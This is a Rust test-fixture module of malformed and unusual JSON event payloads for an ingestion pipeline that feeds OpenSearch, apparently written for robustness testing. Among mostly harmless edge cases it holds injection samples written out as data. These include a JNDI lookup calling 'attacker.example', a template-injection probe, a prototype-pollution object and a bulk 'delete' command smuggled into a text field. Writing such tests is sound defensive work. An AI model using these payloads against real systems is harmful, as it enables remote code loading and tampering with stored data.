//! JSON objects that nobody expected: to become documents all the same, save one whose number
//! OpenSearch would refuse.

use super::{Payloads, texts};

/// Proper objects, unusually laid out.
pub(super) fn layout() -> Payloads {
    let pretty = "{\r\n\t\"type\": \"play\",\r\n\t\"artist\": {\r\n\t\t\"name\": \"Nova Kim\"\r\n\t},\r\n\t\"list\": [\r\n\t\t1,\r\n\t\t2\r\n\t]\r\n}\r\n";
    let lines = pretty.replace('\r', "");
    texts([
        ("pretty-printed-with-crlf", pretty),
        ("pretty-printed-with-lf", &lines),
        ("byte-order-mark", "\u{feff}{\"type\":\"play\",\"artist\":\"Nova Kim\"}"),
        ("trailing-line-break", "{\"type\":\"like\",\"artist\":\"Nova Kim\"}\n"),
        ("empty-object", "{}"),
        ("empty-groups", r#"{"artist":{},"song":{},"track":{},"user":{},"type":"play"}"#),
        ("only-nulls", r#"{"event_id":null,"type":null,"artist":null,"timestamp":null,"x":null}"#),
    ])
}

/// Names that mean something to somebody else, or come twice.
pub(super) fn names() -> Payloads {
    let mut payloads = texts([
        (
            "duplicate-names",
            r#"{"type":"play","type":"skip","a":1,"a":2,"artist":"A","artist":"B"}"#,
        ),
        ("duplicate-names-by-escape", r#"{"type":"play","t\u0079pe":"skip","\u0061":1,"a":2}"#),
        ("duplicate-names-nested", r#"{"type":"play","x":{"y":{"z":1,"z":2},"y":{"z":3}}}"#),
        (
            "prototype-names",
            r#"{"__proto__":{"admin":true},"constructor":{"prototype":1},"type":"play"}"#,
        ),
        (
            "metadata-names",
            r#"{"_id":"1","_index":"other","_source":{},"_routing":"x","type":"play"}"#,
        ),
        (
            "names-of-the-document",
            r#"{"event":{"id":"e","action":"a","x":1},"extra":{"y":2},"overflow":3,"analytics":{"hour":99},"interaction":"i","type":"play"}"#,
        ),
        ("reingest-counter-of-a-stranger", r#"{"__sluice_reingests":"many","type":"play"}"#),
        ("dotted-names", r#"{"a.b":1,"a":{"b":2},"artist.id":"x","..":3,".":4,"type":"play"}"#),
        ("empty-name", r#"{"":1,"x":{"":{"":2}},"type":"play"}"#),
        ("blank-names", "{\" \":1,\"\u{a0}\":2,\"\\t\":3,\"type\":\"play\"}"),
        ("names-with-control-characters", r#"{"a\u0000b":1,"a\nb":2,"\u007f":3,"type":"play"}"#),
        ("names-with-wildcards", r#"{"*":1,"ex*":2,"a#b":3,"a,b":4,"type":"play"}"#),
    ]);
    let long_name = format!(r#"{{"type":"play","{}":1}}"#, "n".repeat(40_000));
    payloads.push(("name-of-40-kb", long_name.into_bytes()));
    payloads
}

/// Values of the wrong type, and values that are too much for somebody.
pub(super) fn values() -> Payloads {
    let mut payloads = texts([
        (
            "object-in-place-of-text",
            r#"{"type":{"name":"play"},"artist_name":{"ko":"달빛정원"},"user_id":{"id":1}}"#,
        ),
        (
            "numbers-in-place-of-texts",
            r#"{"type":7,"artist":42,"song":3.50,"user":100017,"id":12345678901234567890}"#,
        ),
        (
            "texts-in-place-of-numbers",
            r#"{"type":"play","duration_ms":"three minutes","listened_ms":"","position_ms":"0x10"}"#,
        ),
        (
            "lists-in-place-of-values",
            r#"{"type":["play","like"],"artist_name":["A","B"],"duration_ms":[1,"x"],"user_id":[]}"#,
        ),
        (
            "lists-of-objects",
            r#"{"type":"play","artist":[{"name":"A"},{"name":"B"}],"genre":[["pop"],{"x":1}]}"#,
        ),
        (
            "booleans-in-place-of-values",
            r#"{"type":true,"artist":false,"duration_ms":true,"user_id":false}"#,
        ),
        ("text-in-place-of-boolean", r#"{"type":"play","shuffle":"yes"}"#),
        ("negative-durations", r#"{"type":"play","duration_ms":-1,"listened_ms":-215000}"#),
        ("zero-duration", r#"{"type":"play","duration_ms":0,"listened_ms":120000}"#),
        (
            "listened-for-longer-than-it-lasts",
            r#"{"type":"play","duration_ms":1000,"listened_ms":99999999}"#,
        ),
        (
            "huge-integers",
            r#"{"type":"play","duration_ms":99999999999999999999999999,"x":-170141183460469231731687303715884105729}"#,
        ),
        (
            "huge-exponents",
            r#"{"type":"play","duration_ms":1e999,"listened_ms":1e-999,"x":-1E+400}"#,
        ),
        ("negative-zero", r#"{"type":"play","duration_ms":-0,"listened_ms":-0.0e-0}"#),
        (
            "many-digits",
            r#"{"type":"play","duration_ms":215000.00000000000000000000000000001,"x":1.50}"#,
        ),
        ("empty-id", r#"{"event_id":"","type":"play"}"#),
        ("nul-in-id", r#"{"event_id":"a\u0000b","type":"play"}"#),
        ("line-breaks-in-texts", r#"{"type":"play","song":"a\nb\r\nc\u2028d\u0085e"}"#),
        (
            "bulk-lines-in-text",
            r#"{"type":"play","song":"\n{\"delete\":{\"_index\":\"music-events\",\"_id\":\"1\"}}\n"}"#,
        ),
        (
            "noncharacters",
            "{\"type\":\"play\",\"song\":\"\u{fffe}\u{ffff}\u{10ffff}\u{202e}evas\"}",
        ),
        (
            "lookup-in-text",
            r#"{"type":"play","artist":"${jndi:ldap://attacker.example/a}","song":"{{7*7}}"}"#,
        ),
    ]);
    let long_id = format!(r#"{{"event_id":"{}","type":"play"}}"#, "i".repeat(513));
    payloads.push(("id-of-513-bytes", long_id.into_bytes()));
    // Beyond 32,766 bytes, the longest term that Lucene takes.
    let long_text = format!(r#"{{"type":"play","artist":"{}"}}"#, "달".repeat(20_000));
    payloads.push(("text-of-60-kb", long_text.into_bytes()));
    let longest = format!(r#"{{"type":"play","duration_ms":{}}}"#, "9".repeat(1_000));
    payloads.push(("number-of-1000-digits", longest.into_bytes()));
    let too_long = format!(r#"{{"type":"play","duration_ms":{}}}"#, "9".repeat(1_001));
    payloads.push(("number-of-1001-digits", too_long.into_bytes()));
    payloads
}

/// Times that nobody meant.
pub(super) fn clocks() -> Payloads {
    texts([
        (
            "no-time-at-all",
            r#"{"type":"play","timestamp":"yesterday","ts":"","time":{},"artist":"A"}"#,
        ),
        ("time-zero", r#"{"type":"play","timestamp":0,"artist":"A"}"#),
        ("time-before-the-web", r#"{"type":"play","timestamp":"1970-01-01T00:00:00Z"}"#),
        ("time-in-the-far-future", r#"{"type":"play","timestamp":"9999-12-31T23:59:59Z"}"#),
        ("time-beyond-nanoseconds", r#"{"type":"play","timestamp":9223372036854775808}"#),
        ("negative-time", r#"{"type":"play","timestamp":-1709295296}"#),
        ("time-as-text-of-digits", r#"{"type":"play","timestamp":"1709295296789"}"#),
        ("time-with-exponent", r#"{"type":"play","timestamp":1.709295296789e9}"#),
        ("leap-second", r#"{"type":"play","timestamp":"2016-12-31T23:59:60.5Z"}"#),
        ("day-that-does-not-exist", r#"{"type":"play","timestamp":"2023-02-29T12:00:00Z"}"#),
        ("offset-of-a-day", r#"{"type":"play","timestamp":"2024-03-01T12:00:00+24:00"}"#),
        ("comma-before-the-fraction", r#"{"type":"play","timestamp":"2024-03-01 12:34:56,789"}"#),
        (
            "two-times",
            r#"{"type":"play","timestamp":"never","ts":1709295296,"created_at":"2024-03-01"}"#,
        ),
    ])
}
